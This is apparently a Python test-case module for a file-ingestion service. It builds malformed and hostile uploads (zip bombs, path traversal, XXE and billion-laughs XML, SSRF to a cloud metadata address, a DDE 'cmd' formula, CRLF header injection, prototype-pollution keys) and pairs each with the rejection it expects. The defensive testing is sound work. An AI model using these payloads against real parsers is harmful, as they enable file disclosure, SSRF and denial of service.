"""Bad and hostile files, case by case: what is sent and what has to become of it. Made here, never stored.

Cases 01 to 77 are about files. Cases about what the records say stand in tables of their own, of the same form.
"""

import codecs
import gzip
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from tests.hostile import archives, books
from tests.ingest.deliveries import INCIDENTS, PEOPLE, PROFILE

_LINES = INCIDENTS.splitlines()
_CELLS: list[list[object]] = [line.split(",") for line in _LINES]
_RECORDS = [dict(zip(_LINES[0].split(","), line.split(","), strict=True)) for line in _LINES[1:]]
_DAYS = PROFILE.replace("%m/%d/%Y", "%Y-%m-%d")
_MEGA = 1 << 20


@dataclass(frozen=True, kw_only=True)
class Accept:
    """Every row is ready. holds: words that stand in some cell then; hides: words that stand in none."""

    holds: str = ""
    hides: str = ""
    skipped: int = 0


@dataclass(frozen=True, kw_only=True)
class Findings:
    """The file is read, and among the findings are these kinds."""

    codes: frozenset[str]


@dataclass(frozen=True, kw_only=True)
class Reject:
    """Nothing is taken. says: the place, as it stands in the sentence. read: whether the reader still gives tables."""

    code: str
    says: str
    read: bool = False


Outcome = Accept | Findings | Reject


@dataclass(frozen=True, kw_only=True)
class Case:
    """One delivery of two files: the one that is made here, and the people who belong to it."""

    number: str
    name: str
    make: Callable[[], bytes]
    outcome: Outcome
    file: str = "incidents.csv"
    people: str = PEOPLE
    profile: str = PROFILE


def _text(number: str, name: str, text: str | bytes, outcome: Outcome, **more: str) -> Case:
    data = text if isinstance(text, bytes) else text.encode()
    return Case(number=number, name=name, make=lambda: data, outcome=outcome, **more)


def _made(number: str, name: str, file: str, make: Callable[[], bytes], outcome: Outcome, **more: str) -> Case:
    return Case(number=number, name=name, file=file, make=make, outcome=outcome, **more)


def _with(old: str, new: str) -> str:
    changed = INCIDENTS.replace(old, new)
    assert changed != INCIDENTS
    return changed


def _book(*, header: Sequence[object] | None = None, first: dict[int, object] | None = None) -> list[list[object]]:
    """The incidents as rows of cells, with another header or other cells in the first record."""
    rows = [list(cells) for cells in _CELLS]
    rows[0] = list(header or rows[0])
    for at, cell in (first or {}).items():
        rows[1][at] = cell
    return rows


def _json(**changed: object) -> bytes:
    return json.dumps([_RECORDS[0] | changed, *_RECORDS[1:]]).encode()


def _xml(before: str = "", inside: str = "") -> bytes:
    records = "".join(
        "<incident>" + "".join(f"<{key}>{value}</{key}>" for key, value in record.items()) + "</incident>" for record in _RECORDS
    )  # fmt: skip
    return f'<?xml version="1.0"?>{before}<report>{inside}{records}</report>'.encode()


_OK = Accept()
_UNREADABLE_2 = Reject(code="unreadable", says="line 2")
_UNSAFE = Reject(code="xml_unsafe", says="declares a document type")
_CUT = _LINES[0] + "\n" + _LINES[1] + "\nA2,3/6/2025\n"
_ENTITIES = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10 if at else "lol"}">' for at in range(10))
_LAUGHS = f"<!DOCTYPE report [{_ENTITIES}]>"

CSV_BYTES: tuple[Case, ...] = (
    _text("01", "bom_utf8", INCIDENTS.encode("utf-8-sig"), _OK),
    _text("02", "bom_utf16le", codecs.BOM_UTF16_LE + INCIDENTS.encode("utf-16-le"), _OK),
    _text("03", "utf16be_no_bom", INCIDENTS.encode("utf-16-be"), Reject(code="unreadable", says="line 1")),
    _text("04", "utf32", INCIDENTS.encode("utf-32"), _OK),
    _text("05", "cp1252_smart_quotes", _with("MAPLE", "“MAPLE”").encode("cp1252"), _UNREADABLE_2),
    _text("06", "mixed_encodings_per_line", _with("MAPLE", "ÉRABLE").encode() + "A3,é\n".encode("latin-1"),
          Reject(code="unreadable", says="line 4")),
    _text("07", "invalid_utf8_byte", INCIDENTS.encode().replace(b"MAPLE", b"MA\xffPLE"), _UNREADABLE_2),
    _text("08", "overlong_utf8", INCIDENTS.encode().replace(b"MAPLE", b"..\xc0\xaf"), _UNREADABLE_2),
    _text("09", "nul_bytes", _with("MAPLE", "MA\0PLE"), _UNREADABLE_2),
    _text("10", "nul_in_header", _with("Where", "Wh\0ere"), Reject(code="unreadable", says="line 1")),
    _text("11", "cr_only_newlines", INCIDENTS.replace("\n", "\r"), _OK),
    _text("12", "mixed_newlines", "\r\n".join(_LINES[:2]) + "\r" + _LINES[2] + "\n", _OK),
    _text("13", "no_final_newline", INCIDENTS.rstrip("\n"), _OK),
    _text("14", "empty_file", b"", Reject(code="empty", says="the file is empty")),
    _text("15", "header_only", _LINES[0] + "\n", Reject(code="header_only", says="a header but no rows")),
    _text("16", "whitespace_only", b" \r\n\t\n \n", Reject(code="empty", says="the file is empty")),
    _text("17", "ragged_short_rows", _CUT, Findings(codes=frozenset({"short_row"}))),
    _text("18", "ragged_long_rows", _with(",Ann\nA2", ",Ann,x,y\nA2"), Findings(codes=frozenset({"wide_row"}))),
    _text("19", "duplicate_headers", _with("Time", "Day"), Reject(code="header", says="column 3")),
    _text("20", "blank_header", _with("Time", " "), Reject(code="header", says="column 3")),
    _text("21", "header_case_space_variants", _with("No,Day,Time,Where", " No ,DAY,\u00a0Time,where"), _OK),
    _made("22", "header_1e6_columns", "incidents.csv", lambda: ",".join(map(str, range(1_000_000))).encode() + b"\n1\n",
          Reject(code="too_large", says="line 1")),
    _made("23", "header_1gb_single_line", "incidents.csv", lambda: b"a" * (60 * _MEGA), Reject(code="too_large", says="line 1")),
    _made("24", "cell_10mb", "incidents.csv", lambda: _with("MAPLE", "M" * (10 * _MEGA)).encode(),
          Reject(code="too_large", says="line 2")),
    _made("24b", "cell_of_one_megabyte_in_quotes", "incidents.csv", lambda: _with("800 Block of MAPLE ST", '"' + "M\n" * 500_000 + '"').encode(),
          Reject(code="cut_off", says="row 2")),
    _made("25", "unclosed_quote_eats_file", "incidents.csv", lambda: _with("800 Block", '"800 Block').encode() + (_LINES[2] + "\n").encode() * 50_000,
          Reject(code="cut_off", says="row 2")),
    _text("25b", "unclosed_quote_in_a_small_file", _with("800 Block", '"800 Block'), Reject(code="cut_off", says="row 2")),
    _text("26", "quote_inside_unquoted", _with("MAPLE ST", 'THE 5" PIPE'), Accept(holds='THE 5" PIPE')),
    _text("27", "semicolon_delimited", INCIDENTS.replace(",", ";"), Reject(code="delimiter", says='delimiter: ";"')),
    _text("28", "tab_named_csv", INCIDENTS.replace(",", "\t"), Reject(code="delimiter", says='delimiter: "\\t"')),
    _text("29", "delimiter_changes_midway", "\n".join([*_LINES[:2], _LINES[2].replace(",", ";"), ""]),
          Findings(codes=frozenset({"short_row"}))),
    _text("30", "comment_and_title_rows_above_header", "# made by hand\nUse of force\n" + INCIDENTS, Accept(skipped=4),
          profile=PROFILE + "title_rows: 2\n", people="# made by hand\nUse of force\n" + PEOPLE),
    _text("30b", "title_rows_the_profile_does_not_tell", "# made by hand\n" + INCIDENTS,
          Reject(code="wrong_layout", says="this is not a file of", read=True)),
    _text("31", "totals_row_at_end", INCIDENTS + "Total,2\n", Accept(skipped=1)),
    _text("32", "repeated_header_midfile", "\n".join([*_LINES[:2], _LINES[0], _LINES[2]]), Accept(skipped=1)),
    _text("33", "zero_width_and_rtl_override", _with("Where", "Whe\u200bre"), Reject(code="header", says="column 4")),
    _text("33b", "rtl_override_in_header", _with("Where", "\u202eWhere"), Reject(code="header", says="column 4")),
    _text("34", "homoglyph_header", _with("No,Day", "N\u043e,Day"), Reject(code="column_missing", says="the column No", read=True)),
    _text("35", "nfd_vs_nfc_names", _with("MAPLE", "CAFE\u0301"), Accept(holds="CAFE\u0301")),
    _text("35b", "nfd_and_nfc_of_one_name", _with("Time,Where", "e\u0301,\u00e9"), Reject(code="header", says="column 4")),
    _text("36", "csv_with_html_table", "<html><table><tr><td>No</td></tr></table></html>",
          Reject(code="content_disagrees", says="ends in .csv")),
)  # fmt: skip

BOOKS: tuple[Case, ...] = (
    _made("37", "xlsx_zip_bomb", "incidents.xlsx", lambda: books.xlsx(_CELLS, more={"xl/media/a.xml": b" " * (60 * _MEGA)}),
          Reject(code="too_large", says="file 7 of the archive")),
    _made("37b", "xlsx_zip_bomb_that_lies_about_its_size", "incidents.xlsx",
          lambda: archives.lying(books.xlsx(_CELLS, more={"xl/media/a.xml": b" " * (20 * _MEGA)}), "xl/media/a.xml"),
          Reject(code="cut_off", says="damaged inside")),
    _made("38", "xlsx_1048576_rows_empty_styles", "incidents.xlsx",
          lambda: books.xlsx(_CELLS, rest="".join([f'<row r="{at}" s="1"><c r="A{at}" s="1"/></row>' for at in range(4, 1_048_577)]), level=1),
          _OK),
    _made("38b", "xlsx_one_cell_in_the_last_corner", "incidents.xlsx",
          lambda: books.xlsx(_CELLS, rest='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
          Reject(code="too_heavy", says="of memory")),
    _made("39", "xlsx_billion_laughs_sharedstrings", "incidents.xlsx",
          lambda: books.xlsx(_CELLS, more={"xl/sharedStrings.xml": f"<?xml version='1.0'?>{_LAUGHS}<sst>&l9;</sst>"}), _UNSAFE),
    _made("40", "xlsx_external_link", "incidents.xlsx",
          lambda: books.xlsx(_book(first={3: books.Cell(kind="str", value="800 Block of MAPLE ST", formula="[1]Sheet1!A1")}),
                             more={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
          Accept(holds="800 Block of MAPLE ST")),
    _made("41", "xlsx_dde_formula", "incidents.xlsx",
          lambda: books.xlsx(_book(first={8: books.Cell(value="7", formula="cmd|'/c calc'!A0")})), Accept(hides="cmd")),
    _made("42", "xlsm_macro", "incidents.xlsm", lambda: books.xlsx(_CELLS), Reject(code="format_refused", says="macros")),
    _made("42b", "macros_named_xlsx", "incidents.xlsx", lambda: books.xlsx(_CELLS, more={"xl/vbaProject.bin": b"macro"}),
          Reject(code="format_refused", says="macros")),
    _made("43", "xlsx_hidden_sheet_with_names", "incidents.xlsx",
          lambda: books.xlsx([["Name"], ["Quentin Hiddenman"]], _CELLS, states=["hidden"]), Accept(hides="Hiddenman")),
    _made("44", "xlsx_merged_header", "incidents.xlsx",
          lambda: books.xlsx(_book(header=["No", "When", None, *_CELLS[0][3:]]), merged="B1:C1"),
          Reject(code="header", says="columns 2 to 3")),
    _made("45", "xlsx_dates_1904", "incidents.xlsx",
          lambda: books.xlsx([_CELLS[0], *([*row[:1], books.Cell(value=str(day), style=books.DAY), *row[2:]]
                                           for row, day in zip(_CELLS[1:], (44_259, 44_260), strict=True))], since_1904=True),
          Accept(holds="2025-03-05"), profile=_DAYS),
    _made("46", "xlsx_number_as_text_ids_leading_zero", "incidents.xlsx", lambda: books.xlsx(_book(first={0: "0012"})),
          Accept(holds="0012"), people=PEOPLE.replace("A1", "0012")),
    _made("47", "xlsx_scientific_incident_id", "incidents.xlsx", lambda: books.xlsx(_book(first={0: books.Cell(value="1.2E+10")})),
          Accept(holds="12000000000"), people=PEOPLE.replace("A1", "12000000000")),
    _made("48", "xls_biff", "incidents.xls", lambda: books.xls(_CELLS), _OK),
    _made("49", "ods", "incidents.ods", lambda: books.ods([[str(cell) for cell in row] for row in _CELLS]), _OK),
    _made("50", "html_named_xls", "incidents.xls", lambda: b"<html><table><tr><td>No</td></tr></table></html>",
          Reject(code="content_disagrees", says="a web page")),
    _made("51", "password_protected_xlsx", "incidents.xlsx", lambda: books.compound("EncryptedPackage", b"x" * 5000),
          Reject(code="encrypted", says="password")),
    _made("52", "truncated_zip", "incidents.xlsx", lambda: books.xlsx(_CELLS)[:-300], Reject(code="cut_off", says="breaks off")),
)  # fmt: skip

ARCHIVES: tuple[Case, ...] = (
    _made("52b", "archive_of_one_file", "sent.zip", lambda: books.packed({"incidents.csv": INCIDENTS}), _OK),
    _made("53", "zip_path_traversal", "sent.zip", lambda: books.packed({"../../etc/x": INCIDENTS}),
          Reject(code="archive_unsafe", says="file 1 of the archive")),
    _made("54", "zip_absolute_name", "sent.zip", lambda: books.packed({"/etc/x.csv": INCIDENTS}),
          Reject(code="archive_unsafe", says="file 1 of the archive")),
    _made("55", "zip_symlink", "sent.zip", lambda: archives.with_link("incidents.csv", "/etc/hostname"),
          Reject(code="archive_unsafe", says="file 1 of the archive")),
    _made("56", "zip_duplicate_member", "sent.zip", lambda: archives.doubled("incidents.csv", INCIDENTS.encode()),
          Reject(code="archive_unsafe", says="two files of one name")),
    _made("57", "zip_nested_10", "sent.zip", lambda: archives.nested(INCIDENTS.encode(), 10),
          Reject(code="archive_unsafe", says="file 1 of the archive")),
    _made("58", "zip_overlap_bomb", "sent.zip", lambda: archives.overlapping(INCIDENTS.encode(), 200),
          Reject(code="archive_unsafe", says="over one another")),
    _made("58b", "zip_of_two_thousand_files", "sent.zip", lambda: books.packed({f"{at}.csv": INCIDENTS for at in range(2_000)}),
          Reject(code="too_large", says="1,000 files")),
    _made("59", "gzip_bomb", "incidents.csv.gz", lambda: gzip.compress(bytes(20 * _MEGA)), Reject(code="format_refused", says="an archive")),
    _made("59b", "gzip_bomb_named_csv", "incidents.csv", lambda: gzip.compress(bytes(20 * _MEGA)),
          Reject(code="content_disagrees", says="a gzip archive")),
    _made("60", "polyglot_pdf_zip", "sent.zip", lambda: archives.stored({"a.csv": b"%PDF-1.4\n", "incidents.csv": INCIDENTS.encode()}),
          Reject(code="content_disagrees", says="a PDF")),
    _made("60b", "zip_after_a_pdf", "sent.zip", lambda: b"%PDF-1.4\n" + books.packed({"incidents.csv": INCIDENTS}),
          Reject(code="content_disagrees", says="a PDF")),
    _text("61", "filename_crlf_header_injection", INCIDENTS, Reject(code="name", says="invisible character"),
          file="incidents.csv\r\nSet-Cookie: a=b.csv"),
    _text("62", "filename_4096_bytes", INCIDENTS, Reject(code="name", says="longer than 255 bytes"), file="a" * 4_092 + ".csv"),
    _text("63", "filename_reserved_CON_nul", INCIDENTS, _OK, file="CON.csv"),
    _text("63b", "filename_with_a_zero_byte", INCIDENTS, Reject(code="name", says="invisible character"), file="incidents.csv\0.csv"),
)  # fmt: skip

MARKUP: tuple[Case, ...] = (
    _made("64", "billion_laughs", "incidents.xml", lambda: _xml(_LAUGHS, "&l9;"), _UNSAFE),
    _made("65", "quadratic_blowup", "incidents.xml",
          lambda: _xml(f'<!DOCTYPE report [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 10_000), _UNSAFE),
    _made("66", "xxe_file", "incidents.xml", lambda: _xml('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"), _UNSAFE),
    _made("67", "xxe_parameter_entity_oob", "incidents.xml",
          lambda: _xml('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'), _UNSAFE),
    _made("68", "xinclude", "incidents.xml",
          lambda: _xml(inside='<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'),
          Reject(code="xml_unsafe", says="line 1")),
    _made("69", "remote_dtd_ssrf", "incidents.xml", lambda: _xml('<!DOCTYPE r SYSTEM "http://169.254.169.254/latest">'), _UNSAFE),
    _made("70", "xslt_pi", "incidents.xml", lambda: _xml('<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?>'),
          Reject(code="xml_unsafe", says="line 1")),
    _made("70b", "plain_xml", "incidents.xml", _xml, _OK),
    _made("71", "json_depth_100k", "incidents.json", lambda: b"[" * 100_000, Reject(code="too_large", says="deep")),
    _made("71b", "json_depth_33", "incidents.json", lambda: _json(Where=json.loads("[" * 33 + "]" * 33)), Reject(code="too_large", says="deep")),
    _made("71c", "plain_json", "incidents.json", _json, _OK),
    _made("72", "json_duplicate_keys", "incidents.json", lambda: _json().replace(b'"Day"', b'"No": "B", "Day"', 1),
          Reject(code="records", says="record 1")),
    _made("73", "json_nan_infinity", "incidents.json", lambda: _json(Civilians=float("nan")), Reject(code="records", says="record 1")),
    _made("74", "json_bigint_1e400", "incidents.json", lambda: _json(Civilians=1).replace(b": 1,", b": 1e400,"),
          Reject(code="records", says="record 1")),
    _made("74b", "json_integer_of_5000_digits", "incidents.json", lambda: _json(Civilians=1).replace(b": 1,", b": " + b"9" * 5_000 + b","),
          Reject(code="records", says="record 1")),
    _made("75", "json_lone_surrogate", "incidents.json", lambda: _json(Where="\ud800"), Reject(code="unreadable", says="row 2")),
    _made("76", "ndjson_with_bad_line", "incidents.ndjson",
          lambda: b"\n".join([json.dumps(_RECORDS[0]).encode(), b'{"No": ', json.dumps(_RECORDS[1]).encode()]), _UNREADABLE_2),
    _made("77", "proto_pollution_keys", "incidents.json", lambda: _json(__proto__={"admin": True}, constructor="x"),
          Findings(codes=frozenset({"unknown_column"}))),
)  # fmt: skip

CASES: tuple[Case, ...] = (*CSV_BYTES, *BOOKS, *ARCHIVES, *MARKUP)
"""The cases about files."""
